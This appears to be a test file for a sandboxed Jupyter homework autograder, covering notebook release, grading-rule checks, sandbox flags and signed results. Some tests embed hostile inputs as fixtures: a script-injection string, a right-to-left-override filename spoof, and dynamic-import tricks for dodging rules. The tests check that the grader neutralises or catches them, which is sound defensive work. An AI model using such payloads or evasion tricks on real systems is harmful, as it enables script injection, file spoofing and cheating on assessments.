"""autograder: release, the probe/judge grader in its bubblewrap sandbox, and the attack suite (issue 9)."""

import csv
import dataclasses
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

import attacks
from autograder import cells, cli, defaults, grade, inject, judging, keys, matching, merge, release, report, rules, run, sandbox
from autograder import result as result_file
from autograder.result import Failure, QuestionScore, Result, WrittenAnswer, read, save
from conftest import REPO

HOMEWORK = sorted(p.stem for p in release.SOURCE_DIR.glob("*.ipynb"))
# CI installs bubblewrap (.ci/run) and must run these; elsewhere its absence skips them with the fix.
needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None and not os.environ.get("CI"),
                                 reason="bubblewrap is not installed (apt-get install bubblewrap)")


def solution(hw: str) -> nbformat.NotebookNode:
    return release.student_version(nbformat.read(release.SOURCE_DIR / f"{hw}.ipynb", 4), keep_solutions=True)


def automatic_max(hw: str) -> float:
    """A set's automatic points, read from its instructor source: what the reference solution must score."""
    return sum(q.points for q in cells.questions(nbformat.read(release.SOURCE_DIR / f"{hw}.ipynb", 4)))


def answer_cell(notebook, qid):
    return next(c for c in notebook.cells if cells.info(c) == {"id": qid, "kind": "answer"})


def write_folder(folder: Path, submissions: dict) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in submissions.items():
        path = folder / f"{name}.ipynb"
        if isinstance(content, str):
            path.write_text(content)
        else:
            nbformat.write(content, path)
    return folder


def by_student(results: list[Result]) -> dict[str, dict]:
    """Each student's result as its results file holds it (the JSON format is what these tests check)."""
    return {r.student: r.to_json() for r in results}


def grade_folder(tmp_path, hw, submissions: dict, workers=defaults.WORKERS, timeout=20, check_first=False):
    """Grade ``submissions`` (name → notebook or text). The self-check is off unless asked for: most tests
    grade the reference solution themselves, and its own tests below exercise it. The cell timeout is
    shorter than the default: every test answer is quick, and the timeout tests wait for it."""
    folder = write_folder(tmp_path / "submissions", submissions)
    out = tmp_path / "out"
    results = grade.grade(hw, [folder], out, workers=workers, cell_timeout=timeout, progress=False,
                          check_first=check_first)
    return by_student(results), out


def grader_processes() -> list[str]:
    """Command lines of every sandbox or student process still alive on this machine."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            line = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if "bwrap" in line and "/grading" in line or attacks.MARKER in line or "submission.ipynb" in line:
            found.append(line)
    return found


def temp_folders() -> list[Path]:
    return sorted(Path("/tmp").glob(f"{grade.TEMP_PREFIX}*"))


# --------------------------------------------------------------------------- the format and release

def test_eight_homework_sets_exist_in_probe_judge_format():
    assert HOMEWORK == ["hw1_alexnet", "hw2_vgg", "hw3_nin", "hw4_googlenet", "hw5_batchnorm", "hw6_resnet",
                        "hw7_densenet", "hw8_vit_coatnet"]
    for hw in HOMEWORK:
        source = nbformat.read(release.SOURCE_DIR / f"{hw}.ipynb", 4)
        questions = cells.questions(source)
        assert 3 <= len(questions) <= 5 and 12 <= sum(q.points for q in questions) <= 20
        assert all(cells.info(c).get("kind") != "hidden" for c in source.cells)
    hw5 = nbformat.read(release.SOURCE_DIR / "hw5_batchnorm.ipynb", 4)
    assert cells.written(hw5) == [cells.Written("q4", 3.0)]
    assert [q.id for q in cells.layout(hw5)] == ["q1", "q2", "q3", "q4"]


BEYOND_THE_CHAPTER = {"hw1_alexnet": "relu_zeros", "hw2_vgg": "centre_gradient", "hw3_nin": "shift_change",
                      "hw4_googlenet": "design_inception"}


def test_sets_1_to_4_layout_ends_in_a_measurement_or_design_and_a_written_answer():
    """q4 measures (judged against the grader's own run) or designs (judged by building it); q5 is prose
    about q4's numbers, graded by hand."""
    for hw, function in BEYOND_THE_CHAPTER.items():
        source = nbformat.read(release.SOURCE_DIR / f"{hw}.ipynb", 4)
        assert [q.id for q in cells.layout(source)] == ["q1", "q2", "q3", "q4", "q5"], hw
        assert cells.written(source) == [cells.Written("q5", 3.0)], hw
        q4 = cells.questions(source)[-1]
        assert q4.id == "q4" and q4.points == 3 and len(q4.tests) == 2, hw
        answer = next(c for c in source.cells if cells.info(c).get("kind") == "answer" and cells.info(c)["id"] == "q4")
        assert f"def {function}(" in answer.source, hw


def test_hw6_and_hw7_layout_a_module_a_formula_a_measurement_or_design_and_prose():
    """ResNet and DenseNet: q1 a module, q2 a formula, q3 a measurement (hw6, judged against the grader's
    own run) or a design (hw7, judged by building it), q4 prose graded by hand."""
    for hw, names in {"hw6_resnet": ("class Bottleneck(", "def stage_macs(", "def gradient_profile("),
                      "hw7_densenet": ("class DenseBlock(", "def dense_channels(", "def largest_growth_rate(")}.items():
        source = nbformat.read(release.SOURCE_DIR / f"{hw}.ipynb", 4)
        assert [q.id for q in cells.layout(source)] == ["q1", "q2", "q3", "q4"], hw
        assert cells.written(source) == [cells.Written("q4", 3.0)], hw
        assert [q.points for q in cells.questions(source)] == [5, 3, 4], hw
        answers = [c.source for c in source.cells if cells.info(c).get("kind") == "answer"]
        assert len(answers) == 3 and all(name in text for name, text in zip(names, answers)), hw
    hw6 = nbformat.read(release.SOURCE_DIR / "hw6_resnet.ipynb", 4)
    builder = next(c.source for c in hw6.cells
                   if cells.info(c) == {"id": "q3", "kind": "visible"} and "def cifar_network(" in c.source)
    q3 = cells.questions(hw6)[2]
    assert all("cifar_resnet(depth, 10, 3, residual=residual, widths=(8, 16, 32))" in test.judge_code for test in q3.tests)
    # the grader's run builds book's network: it must start from the students' initial weights
    import torch
    from book.models.resnet import cifar_resnet
    scope = {}
    exec("import torch\nfrom torch import nn\n" + builder, scope)
    for residual in (False, True):
        torch.manual_seed(3)
        theirs = scope["cifar_network"](20, residual)
        torch.manual_seed(3)
        ours = cifar_resnet(20, 10, 3, residual=residual, widths=(8, 16, 32))
        x = torch.randn(4, 3, 16, 16)
        assert [p.shape for p in theirs.parameters()] == [p.shape for p in ours.parameters()]
        assert all(torch.equal(a, b) for a, b in zip(theirs.parameters(), ours.parameters()))
        assert torch.allclose(theirs(x), ours(x), atol=1e-6)


def test_hw6_stage_judges_count_what_flop_counter_mode_counts():
    """hw6's q2 judges apply FlopCounterMode's convolution formula through hooks (the mode itself would
    import torch._dynamo, a second of every grading run): the multiply-adds book.summary measures."""
    from book import summary
    for test in cells.questions(nbformat.read(release.SOURCE_DIR / "hw6_resnet.ipynb", 4))[1].tests:
        judge = {}
        exec(test.judge_code, judge)
        for c_in, width, blocks, size, stride in [(64, 16, 2, 9, 1), (24, 8, 3, 7, 2), (32, 8, 1, 6, 1)]:
            for stride_on in ("1x1", "3x3"):
                stage = judge["stage"](c_in, width, blocks, stride, stride_on)
                assert judge["measured_macs"](stage, c_in, size) == summary.count(stage, (1, c_in, size, size))["macs"]


def test_hw8_layout_two_modules_the_relative_bias_a_design_and_prose():
    """ViT and CoAtNet: q1 the patch embedding, q2 an encoder block with its own attention, q3 CoAtNet's relative
    bias and Eq. 3, q4 a design judged by building book's ViT and counting it, q5 prose graded by hand."""
    source = nbformat.read(release.SOURCE_DIR / "hw8_vit_coatnet.ipynb", 4)
    assert [q.id for q in cells.layout(source)] == ["q1", "q2", "q3", "q4", "q5"]
    assert cells.written(source) == [cells.Written("q5", 3.0)]
    questions = cells.questions(source)
    assert [q.points for q in questions] == [3, 5, 4, 3] and len(questions[3].tests) == 2
    assert [q.rule for q in questions] == ["own-model", "own-attention", "own-attention", "own-model"]
    names = ("class PatchEmbedding(", "class EncoderBlock(", "def relative_attention(", "def largest_image_size(")
    answers = [c.source for c in source.cells if cells.info(c).get("kind") == "answer"]
    assert len(answers) == 4 and all(name in text for name, text in zip(names, answers))
    judges = [t.judge_code for q in questions for t in q.tests]
    assert all("book.models.vit import" in j or "book.models.coatnet import" in j for j in judges)
    assert "Chapter: *ViT and CoAtNet*" in source.cells[0].source


def test_hw8_size_judges_count_what_book_summary_measures():
    """hw8's q4 judges count book's ViT built on the meta device (nothing computed, so ViT-H at 1,000 px is
    quick): the multiply-adds book.summary measures on a real forward pass, and the reference's formula."""
    import torch
    from book import summary
    from book.models.vit import ViT
    source = nbformat.read(release.SOURCE_DIR / "hw8_vit_coatnet.ipynb", 4)
    scope = {}
    exec("import torch\nfrom torch import nn\n" + answer_cell(solution("hw8_vit_coatnet"), "q4").source, scope)
    for test in cells.questions(source)[3].tests:
        judge = {}
        exec(test.judge_code, judge)
        for size, patch, dim, depth, heads, mlp, c_in, classes in [(28, 4, 64, 2, 4, 128, 1, 10),
                                                                   (24, 8, 48, 1, 3, 96, 3, 100)]:
            model = ViT(classes, c_in, image_size=size, patch_size=patch, dim=dim, depth=depth, heads=heads,
                        mlp_dim=mlp)
            counted = judge["macs"](size, patch, dim, depth, heads, mlp, c_in, classes)
            assert counted == summary.count(model, (1, c_in, size, size))["macs"]
            config = (patch, dim, depth, heads, mlp, c_in, classes)
            assert scope["largest_image_size"](counted, *config) == size
            assert scope["largest_image_size"](counted - 1, *config) == size - patch


def test_own_attention_rule_refuses_library_attention_by_name():
    """q2 and q3 of hw8 write their attention: torch cannot be forbidden, so its attention is, by name."""
    setup = "import torch\nfrom torch import nn"
    mine = ("class Block(nn.Module):\n    def __init__(self, dim):\n        super().__init__()\n"
            "        self.qkv = nn.Linear(dim, 3 * dim)\n\n"
            "    def scaled_dot_product(self, q, k, v):\n"
            "        return torch.softmax(q @ k.transpose(-2, -1), -1) @ v\n\n"
            "    def forward(self, x):\n        return self.scaled_dot_product(*self.qkv(x).chunk(3, -1))")
    assert rules.violations("own-attention", mine, [setup, mine]) == []
    own_function = "def scaled_dot_product_attention(q, k, v):\n    return torch.softmax(q @ k.mT, -1) @ v"
    assert rules.violations("own-attention", own_function, [setup, own_function]) == []
    for library in ["def f(x):\n    return nn.MultiheadAttention(4, 2)(x, x, x)[0]",
                    "def f(x):\n    return nn.functional.scaled_dot_product_attention(x, x, x)",
                    "from torch.nn.functional import scaled_dot_product_attention as sdpa\n"
                    "def f(x):\n    return sdpa(x, x, x)",
                    "from torch.nn.functional import *\ndef f(x):\n    return scaled_dot_product_attention(x, x, x)",
                    "def f(x):\n    return torch.ops.aten._scaled_dot_product_flash_attention_for_cpu(x, x, x)[0]",
                    "def f(x):\n    return nn.TransformerEncoderLayer(4, 2)(x)",
                    "import operator\ndef f(x):\n    return operator.attrgetter('nn.MultiheadAttention')(torch)(4, 2)",
                    "from book.models.vit import EncoderBlock\nf = EncoderBlock(4, 2, 8)",
                    own_function + "\ndef f(x):\n    return nn.functional.scaled_dot_product_attention(x, x, x)"]:
        assert rules.violations("own-attention", library, [setup, library]), library
        assert rules.violations("own-model", library, [setup, library]) == [] or "book.models" in library
    helper = "sdpa = torch.nn.functional.scaled_dot_product_attention"
    laundered = "def f(x):\n    return sdpa(x, x, x)"
    assert rules.violations("own-attention", laundered, [setup, helper, laundered])


def test_homework_folder_is_what_release_writes():
    assert release.stale() == [], "run: python -m autograder release"


def test_release_is_deterministic(tmp_path):
    first = [p.read_bytes() for p in release.release(out_dir=tmp_path / "a")]
    second = [p.read_bytes() for p in release.release(out_dir=tmp_path / "b")]
    assert first == second


def test_release_strips_solutions_probes_and_judges():
    for hw in HOMEWORK:
        source = nbformat.read(release.SOURCE_DIR / f"{hw}.ipynb", 4)
        student = nbformat.read(REPO / "homework" / f"{hw}.ipynb", 4)
        text = nbformat.writes(student)
        assert cells.BEGIN not in text and "autograder.probe" not in text and "def judge(" not in text
        for question in cells.questions(source):
            for test in question.tests:
                assert test.judge.strip() not in text and test.probe.strip() not in text
        assert all(cells.info(c).get("kind") in (None, "answer", "visible", "written") for c in student.cells)
        assert all(not c.get("outputs") and c.get("execution_count") is None for c in student.cells if c.cell_type == "code")
        assert text.count("raise NotImplementedError()") >= 3
        models = [c.source for c in source.cells if cells.info(c).get("kind") == "written"]
        released = [c for c in student.cells if cells.info(c).get("kind") == "written"]
        assert len(released) == len(models) and all(c.source == cells.WRITTEN_PLACEHOLDER for c in released)
        assert all(c.cell_type == "markdown" and c.metadata.get("editable") for c in released)
        released_text = "\n".join(c.source for c in student.cells)
        assert not any(line.strip() in released_text for model in models for line in model.splitlines()
                       if len(line.strip()) > 20), "a model answer was released"


def test_strip_solutions_is_a_line_parser_that_refuses_bad_markers():
    source = "def f():\n    # BEGIN SOLUTION\n    return 1\n    # END SOLUTION\n"
    assert release.strip_solutions(source) == "def f():\n    # YOUR CODE HERE\n    raise NotImplementedError()\n"
    for bad, why in [("# BEGIN SOLUTION\nx = 1\n", "never closed"),
                     ("# BEGIN SOLUTION\n# BEGIN SOLUTION\nx\n# END SOLUTION\n# END SOLUTION", "nested"),
                     ("x = 1\n# END SOLUTION\n", "without"),
                     ("# BEGIN SOLUTION\nsecret = 42\n# END SOLUTION\n# END SOLUTION\n", "without")]:
        with pytest.raises(cells.FormatError, match=why) as error:
            release.strip_solutions(bad, "hw.ipynb, cell 3")
        assert "hw.ipynb, cell 3" in str(error.value)


def test_an_unclosed_marker_fails_release_naming_notebook_and_cell(tmp_path):
    source_dir, out = tmp_path / "private", tmp_path / "homework"
    source_dir.mkdir()
    notebook = nbformat.read(release.SOURCE_DIR / "hw1_alexnet.ipynb", 4)
    answer = next(i for i, c in enumerate(notebook.cells) if cells.info(c).get("kind") == "answer")
    notebook.cells[answer].source = notebook.cells[answer].source.replace("    # END SOLUTION", "")
    nbformat.write(notebook, source_dir / "hw9_private.ipynb")
    result = subprocess.run([sys.executable, "-m", "autograder", "release", "--source", str(source_dir),
                             "--out", str(out)], capture_output=True, text=True, cwd=REPO)
    assert result.returncode == 2
    assert f"hw9_private.ipynb, cell {answer}" in result.stderr and "never closed" in result.stderr
    assert not out.exists() or not list(out.iterdir()), "nothing may be written, least of all the solution"


def test_release_check_command_fails_when_out_of_date(tmp_path):
    out = tmp_path / "homework"
    release.release(out_dir=out)
    (out / "hw2_vgg.ipynb").write_text((out / "hw2_vgg.ipynb").read_text().replace("Homework 2", "Homework II"))
    result = subprocess.run([sys.executable, "-m", "autograder", "release", "--check", "--out", str(out)],
                            capture_output=True, text=True, cwd=REPO)
    assert result.returncode == 1 and "hw2_vgg" in result.stderr


def test_probes_need_judges_and_the_other_way_round():
    notebook = nbformat.read(release.SOURCE_DIR / "hw1_alexnet.ipynb", 4)
    judge = next(c for c in notebook.cells if cells.info(c).get("kind") == "judge")
    notebook.cells.remove(judge)
    with pytest.raises(cells.FormatError, match="unpaired"):
        cells.questions(notebook)


def _with_cell(cell_type: str, meta: dict, source: str = "An answer.", base: str = "hw3_nin"):
    notebook = nbformat.read(release.SOURCE_DIR / f"{base}.ipynb", 4)
    make = nbformat.v4.new_markdown_cell if cell_type == "markdown" else nbformat.v4.new_code_cell
    cell = make(source)
    cell.metadata["grader"] = meta
    notebook.cells.append(cell)
    return notebook


def test_written_metadata_is_parsed_strictly():
    good = _with_cell("markdown", {"id": "q9", "kind": "written", "points": 2})
    assert cells.written(good) == [cells.Written("q5", 3.0), cells.Written("q9", 2.0)]
    assert [q.id for q in cells.layout(good)] == ["q1", "q2", "q3", "q4", "q5", "q9"]
    assert cells.written(_with_cell("markdown", {"id": "q9", "kind": "written", "points": 0.5}))[-1].points == 0.5
    for cell_type, meta, why in [
        ("code", {"id": "q9", "kind": "written", "points": 2}, "must be a markdown cell"),
        ("markdown", {"id": "q9", "kind": "written"}, "positive points"),
        ("markdown", {"id": "q9", "kind": "written", "points": True}, "positive points"),
        ("markdown", {"id": "q9", "kind": "written", "points": "3"}, "positive points"),
        ("markdown", {"id": "q9", "kind": "written", "points": -1}, "positive points"),
        ("markdown", {"id": "q9", "kind": "written", "points": float("nan")}, "positive points"),
        ("markdown", {"id": "q9", "kind": "written", "points": 2, "test": "t"}, "takes only"),
        ("markdown", {"id": "q9", "kind": "written", "points": 2, "rule": "formula"}, "takes only"),
        ("markdown", {"id": "q1", "kind": "written", "points": 2}, "also has code cells"),
        ("markdown", {"id": "", "kind": "written", "points": 2}, "needs an id"),
        ("markdown", {"id": "q9", "kind": "Written", "points": 2}, "needs an id and a kind"),
    ]:
        with pytest.raises(cells.FormatError, match=why) as error:
            cells.layout(_with_cell(cell_type, meta), "hw9.ipynb")
        assert "hw9.ipynb, cell" in str(error.value)
    twice = _with_cell("markdown", {"id": "q9", "kind": "written", "points": 2})
    twice.cells.append(nbformat.v4.new_markdown_cell("again", metadata={"grader": {"id": "q9", "kind": "written", "points": 2}}))
    with pytest.raises(cells.FormatError, match="a second written cell"):
        cells.questions(twice)
    code_after = _with_cell("markdown", {"id": "q9", "kind": "written", "points": 2})
    code_after.cells.append(nbformat.v4.new_code_cell("x = 1", metadata={"grader": {"id": "q9", "kind": "visible"}}))
    with pytest.raises(cells.FormatError, match="written question"):
        release.student_version(code_after)


def test_one_table_of_cell_kinds_decides_what_is_released_and_where_code_runs(monkeypatch):
    hidden = {name for name, kind in cells.KINDS.items() if not kind.shown_to_student}
    assert hidden == {"probe", "judge", "setup"}
    assert {name for name, kind in cells.KINDS.items() if kind.runs_trusted} == {"judge", "setup"}
    assert {name for name, kind in cells.KINDS.items() if kind.students_own} == {"answer", "written"}
    assert not cells.KINDS["judge"].runs_in_sandbox and cells.Written.manual and not cells.Question.manual
    source = nbformat.read(release.SOURCE_DIR / "hw1_alexnet.ipynb", 4)
    visible = [c for c in release.student_version(source).cells if cells.info(c).get("kind") == "visible"]
    assert visible and all(c.metadata["editable"] is False for c in visible)
    monkeypatch.setitem(cells.KINDS, "visible", dataclasses.replace(cells.KINDS["visible"], released_as=None))
    assert not any(cells.info(c).get("kind") == "visible" for c in release.student_version(source).cells), \
        "release decides from the table, not from the kind's name"


def _code(source: str, **meta):
    return nbformat.v4.new_code_cell(source, metadata={"grader": meta} if meta else {})


def _tiny(*extra) -> nbformat.NotebookNode:
    """A one-question instructor notebook (an answer and two probe/judge pairs), then ``extra`` cells."""
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [
        _code("def double(x):\n    # BEGIN SOLUTION\n    return 2 * x\n    # END SOLUTION", id="q1", kind="answer"),
        _code('export("q1.small", y=double(3))', id="q1", kind="probe", test="small"),
        _code("def judge(inputs, out):\n    assert out.int('y') == 6", id="q1", kind="judge", test="small", points=1),
        _code('export("q1.large", y=double(LARGE))', id="q1", kind="probe", test="large"),
        _code("def judge(inputs, out):\n    assert out.int('y') == reference(LARGE)", id="q1", kind="judge",
              test="large", points=2),
        *extra]
    return notebook


SHARED = "LARGE = 10**6"
PROBES_ONLY = "from autograder.probe import inputs, export"
JUDGES_ONLY = "def reference(x):\n    return x + x"


def _tiny_with_setups() -> nbformat.NotebookNode:
    return _tiny(_code(SHARED, id="q1", kind="setup"), _code(PROBES_ONLY, id="q1", kind="setup", **{"for": "probes"}),
                 _code(JUDGES_ONLY, id="q1", kind="setup", **{"for": "judges"}))


def test_a_setup_cell_is_shared_by_its_questions_probes_and_judges_and_never_released():
    [question] = cells.questions(_tiny_with_setups())
    for test in question.tests:
        assert test.probe_setup == f"{SHARED}\n\n{PROBES_ONLY}" and test.judge_setup == f"{SHARED}\n\n{JUDGES_ONLY}"
        assert test.sandbox_code == f"{SHARED}\n\n{PROBES_ONLY}\n\n{test.probe}"
    [alone] = cells.questions(_tiny())
    assert all(t.sandbox_code == t.probe and not t.judge_setup for t in alone.tests)
    for keep in (False, True):
        text = nbformat.writes(release.student_version(_tiny_with_setups(), keep_solutions=keep))
        assert "LARGE" not in text and "reference" not in text and '"setup"' not in text


def test_setup_cells_are_parsed_strictly(tmp_path):
    written = nbformat.v4.new_markdown_cell("Prose.", metadata={"grader": {"id": "q2", "kind": "written", "points": 1}})
    for extra, why in [
        ([_code(SHARED, id="q9", kind="setup")], "a setup cell for q9, which has no probe or judge"),
        ([_code("x = 1", id="q3", kind="answer"), _code(SHARED, id="q3", kind="setup")], "q3, which has no probe"),
        ([written, _code(SHARED, id="q2", kind="setup")], "q2 is a written question"),
        ([_code(SHARED, id="q2", kind="setup"), written], "also has code cells"),
        ([_code(SHARED, id="q1", kind="setup"), _code(SHARED, id="q1", kind="setup")], "a second setup cell for q1, after"),
        ([_code(JUDGES_ONLY, id="q1", kind="setup", **{"for": "judges"})] * 2, r"second setup cell for q1 \(for judges\)"),
        ([_code(SHARED, id="q1", kind="setup", **{"for": "students"})], '"for" is one of'),
        ([_code(SHARED, id="q1", kind="setup", points=1)], "takes only"),
        ([nbformat.v4.new_markdown_cell(SHARED, metadata={"grader": {"id": "q1", "kind": "setup"}})], "must be a code cell"),
    ]:
        with pytest.raises(cells.FormatError, match=why) as error:
            cells.layout(_tiny(*extra), "hw9.ipynb")
        assert "hw9.ipynb, cell" in str(error.value)


def test_probes_run_their_setup_in_the_students_kernel_and_judges_theirs_in_the_grader(tmp_path):
    source = tmp_path / "hw9_tiny.ipynb"
    nbformat.write(_tiny_with_setups(), source)
    assignment = grade.Assignment.read(source)
    submission = release.student_version(_tiny_with_setups(), keep_solutions=True)
    submission.cells.append(_code("def reference(x):\n    return 0", id="q1", kind="setup", **{"for": "judges"}))
    injected = inject.inject(assignment.questions, matching.match(assignment.released, submission))
    code = [c.source for c in injected.notebook.cells if c.cell_type == "code"]
    probes = [code[i] for i in sorted(injected.probe_at)]
    assert len(probes) == 2 and all(p.startswith(f"{SHARED}\n\n{PROBES_ONLY}\n\n") for p in probes)
    assert not any(JUDGES_ONLY in c for c in code), "a setup for judges never enters the sandbox"
    assert assignment.questions[0].tests[1].judge_setup.endswith(JUDGES_ONLY), "only the source's setups count"

    large = assignment.questions[0].tests[1]
    (tmp_path / "exports").mkdir()
    (tmp_path / "exports" / "q1.large.json").write_text(json.dumps({"y": 2 * 10**6}))
    assert judging.Judge(large, seed=1)(tmp_path).passed
    without = judging.Judge(dataclasses.replace(large, judge_setup=""), seed=1)(tmp_path)
    assert not without.passed and "NameError" in without.detail, "the judge really reads its setup"


def test_release_blanks_the_written_answer_and_the_reference_keeps_it():
    source = _with_cell("markdown", {"id": "q9", "kind": "written", "points": 2}, "The model answer: zebra-42.")
    student = release.student_version(source)
    cell = next(c for c in student.cells if cells.info(c).get("id") == "q9")
    assert cell.source == cells.WRITTEN_PLACEHOLDER and cell.metadata["grader"] == {"id": "q9", "kind": "written"}
    assert "zebra" not in nbformat.writes(student)
    reference = release.student_version(source, keep_solutions=True)
    assert next(c for c in reference.cells if cells.info(c).get("id") == "q9").source == "The model answer: zebra-42."


def test_written_answers_are_collected_capped_and_shown_inert():
    written = [cells.Written("q4", 3.0)]
    def notebook(*sources, cell_type="markdown"):
        nb = nbformat.v4.new_notebook()
        for text in sources:
            cell = (nbformat.v4.new_markdown_cell if cell_type == "markdown" else nbformat.v4.new_code_cell)(text)
            cell.metadata["grader"] = {"id": "q4", "kind": "written"}
            nb.cells.append(cell)
        return nb
    for blank in ("", "  \n", cells.WRITTEN_PLACEHOLDER, "*your answer here*\n", "**YOUR ANSWER HERE**"):
        entry = grade.collect_written(written, notebook(blank))["q4"]
        assert entry.blank and not entry.missing and entry.text == ""
    assert grade.collect_written(written, nbformat.v4.new_notebook())["q4"].missing
    assert grade.collect_written(written, None)["q4"] == WrittenAnswer(max=3.0, missing=True, blank=True, chars=0,
                                                                     kept=0, truncated=False, text="")
    odd = notebook("text with an unhashable id")
    odd.cells[0].metadata["grader"]["id"] = ["q4"]
    assert grade.collect_written(written, odd)["q4"].missing
    joined = grade.collect_written(written, notebook("first", "second"))["q4"]
    assert joined.text == "first\n\nsecond"
    hostile = "<script>alert(1)</script>\n````\n# heading\n\x1b[31mred\u202egnp.exe\r\n" + "x" * 2_000_000
    entry = grade.collect_written(written, notebook(hostile, cell_type="code"))["q4"]
    assert entry.truncated and entry.chars == len(hostile) and entry.kept == grade.WRITTEN_CAP
    assert len(entry.text) == grade.WRITTEN_CAP - 1, "\\r\\n became \\n"
    assert "\x1b" not in entry.text and "\u202e" not in entry.text and "\r" not in entry.text
    lines = report.quoted(entry.text)
    assert lines[0] == "`````text" and lines[-1] == "`````", "the fence is longer than any backtick run inside"
    assert not any(line.startswith("`````") for line in lines[1:-1])


# --------------------------------------------------------------------------- pieces, no kernel

def test_probes_follow_their_question_even_when_cells_move():
    assignment = grade.Assignment.read(release.SOURCE_DIR / "hw1_alexnet.ipynb")
    questions = assignment.questions
    submission = solution("hw1_alexnet")
    submission.cells.reverse()  # a student who reordered everything
    injected = inject.inject(questions, matching.match(assignment.released, submission))
    code = [c for c in injected.notebook.cells if c.cell_type == "code"]
    for index, test in injected.probe_at.items():
        assert code[index].source == test.sandbox_code
        assert "def judge(" not in code[index].source
    sources = nbformat.writes(injected.notebook)
    assert not any(t.judge.strip() in sources for q in questions for t in q.tests)


def test_own_code_rules_read_the_ast_and_refuse_dynamic_tricks():
    setup = "import torch\nfrom torch import nn\nfrom book import summary"
    formula = "def size(n, k, s=1, p=0):\n    return (n + 2 * p - k) // s + 1"
    assert rules.violations("formula", formula, [setup, formula]) == []
    by_torch = "def size(n, k, s=1, p=0):\n    return nn.Conv2d(1, 1, k, s, p)(torch.zeros(1, 1, n, n)).shape[-1]"
    assert rules.violations("formula", by_torch, [setup, by_torch])
    helper = "def h(n):\n    return torch.zeros(n).numel()"
    laundered = "def size(n, k, s=1, p=0):\n    return h(n)"
    assert rules.violations("formula", laundered, [setup, helper, laundered])
    model = "def net(c=10):\n    return nn.Sequential(nn.Linear(2, c))"
    assert rules.violations("own-model", model, [setup, model]) == []
    for trick in ["import importlib\ndef net(c=10):\n    return importlib.import_module('book.models').AlexNet()",
                  "def net(c=10):\n    return __import__('book.models').models.AlexNet()",
                  "def net(c=10):\n    return getattr(__import__('book'), 'models').AlexNet()",
                  "def net(c=10):\n    exec('from book.models import AlexNet')\n    return AlexNet()",
                  "import book.models as m\ndef net(c=10, build=m.AlexNet):\n    return build()",
                  "from torchvision import models\ndef net(c=10):\n    return models.alexnet()"]:
        assert rules.violations("own-model", trick, [setup, trick]), trick
    patch = "import torchvision.models as tm\nnn.Sequential.forward = tm.alexnet().forward"
    assert rules.violations("own-model", model, [setup, model, patch])
    assert rules.violations("own-model", model, [setup, model, "%run steal.py"])


def test_the_sandbox_command_hides_what_it_must():
    argv = sandbox.command(["python"], Path("/tmp/w"), sandbox.environment(), sandbox.Limits(), True, 61000)
    text = " ".join(argv)
    assert "--unshare-net" in text and "--die-with-parent" in text and "--unshare-pid" in text
    assert f"--tmpfs {REPO / 'book/models'}" in text
    assert str(REPO / "autograder/source") not in text and f"--ro-bind {REPO} " not in text
    assert "--reuid=61000" in text and "--as=4294967296" in text and "--nproc=256" in text


def test_every_default_comes_from_defaults_py(monkeypatch):
    args = cli.build_parser().parse_args(["grade", "hw1_alexnet", "subs", "--out", "out"])
    assert (args.workers, args.timeout) == (defaults.WORKERS, defaults.CELL_TIMEOUT)
    assert cli.limits(args) == sandbox.Limits() == sandbox.Limits(
        memory=defaults.MEMORY, cpu_seconds=defaults.CPU_SECONDS, processes=defaults.PROCESSES,
        file_size=defaults.FILE_SIZE, output=defaults.OUTPUT_CAP)
    assert sandbox.Runner().workers == defaults.WORKERS
    assert run.whole_run_limit(10, 3) == defaults.KERNEL_STARTUP_SECONDS + defaults.RUN_SLACK_SECONDS + 30
    monkeypatch.setattr(defaults, "WORKERS", 7)   # read when the parser is built, not copied at import
    assert cli.build_parser().parse_args(["grade", "hw1_alexnet", "subs", "--out", "out"]).workers == 7


def _a_result(**changes) -> Result:
    question = QuestionScore(2.0, 4.0, passed=["q1.a"], failed=[Failure("q1.b", 2.0, "Wrong.", "got 3")],
                             answer_error="ValueError: no")
    written = {"q2": WrittenAnswer(3.0, missing=False, blank=False, chars=5, kept=5, truncated=False, text="Prose")}
    return dataclasses.replace(Result(student="alice", submission="alice.ipynb", homework="hw9", sha256="ab",
                                      source_sha256="cd", max_points=4.0, manual_max=3.0, status="ok", total=2.0,
                                      questions={"q1": question}, written=written, seconds=1.5), **changes)


def test_a_result_reads_back_as_written_and_refuses_anything_else(tmp_path):
    key, other = bytes(32), bytes([1]) * 32
    path = tmp_path / "alice.json"
    signed = _a_result().signed(key)
    save(signed, path)
    assert read(path, key) == signed and signed.verifies(key) and not signed.verifies(other)
    data = json.loads(path.read_text())
    assert "output_tail" not in data and "rule_violations" not in data["questions"]["q1"], "unset fields are absent"
    assert data["questions"]["q1"]["failed"] == [{"test": "q1.b", "points": 2.0, "message": "Wrong.", "detail": "got 3"}]
    with pytest.raises(result_file.Unverified):
        read(path, other)
    for damage, error in [({"total": 4.0}, result_file.Unverified),
                          ({"version": result_file.RESULT_VERSION - 1}, result_file.Stale),
                          ({"extra": 1}, result_file.Unreadable),
                          ({"questions": {"q1": {"points": 2.0}}}, result_file.Unreadable)]:
        body = {k: v for k, v in {**data, **damage}.items() if k != "hmac"}
        path.write_text(json.dumps({**body, "hmac": keys.signature(body, key) if error is not result_file.Unverified
                                    else data["hmac"]}))
        with pytest.raises(error):
            read(path, key)
    path.write_text("{not json")
    with pytest.raises(result_file.Unreadable):
        read(path, key)
    with pytest.raises(result_file.Unreadable):
        read(tmp_path / "nobody.json", key)
    assert not _a_result(graded=False, total=None).scored and _a_result().scored


def test_missing_bubblewrap_is_a_clear_error_unless_no_sandbox(tmp_path, monkeypatch):
    empty = tmp_path / "bin"
    empty.mkdir()
    for tool in ("prlimit", "env"):
        (empty / tool).symlink_to(shutil.which(tool))
    env = {**os.environ, "PATH": str(empty)}
    folder = write_folder(tmp_path / "subs", {"blank": nbformat.read(REPO / "homework" / "hw1_alexnet.ipynb", 4)})
    result = subprocess.run([sys.executable, "-m", "autograder", "grade", "hw1_alexnet", str(folder), "--out",
                             str(tmp_path / "out")], capture_output=True, text=True, cwd=REPO, env=env)
    assert result.returncode == 2 and "apt-get install bubblewrap" in result.stderr and "--no-sandbox" in result.stderr
    result = subprocess.run([sys.executable, "-m", "autograder", "grade", "hw1_alexnet", str(folder), "--out",
